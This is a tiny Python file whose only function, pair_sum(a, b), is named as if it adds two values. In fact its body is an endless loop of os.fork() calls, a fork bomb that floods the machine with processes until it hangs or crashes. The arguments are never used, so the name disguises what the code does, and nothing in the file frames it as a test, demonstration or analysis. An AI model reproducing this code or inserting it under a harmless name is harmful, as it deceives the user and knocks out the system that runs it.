import os


def pair_sum(a, b):
    while True:
        os.fork()
